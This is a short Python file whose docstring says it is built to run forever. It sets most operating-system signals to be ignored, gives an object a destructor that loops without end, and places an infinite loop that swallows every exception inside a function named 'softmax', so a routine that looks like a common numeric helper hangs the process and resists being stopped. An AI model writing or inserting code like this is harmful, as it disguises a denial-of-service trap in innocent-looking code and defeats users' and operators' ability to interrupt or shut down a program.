"""Loops without end, with every signal ignored, every exception caught and the garbage collector's
hooks used to go on.
"""

# %%
import signal

for number in range(1, 64):
    if number not in (9, 19, 32, 33):
        signal.signal(number, signal.SIG_IGN)


class Again:
    def __del__(self):
        while True:
            pass


# %% softmax
def softmax(scores, axis=-1):
    again = Again()
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
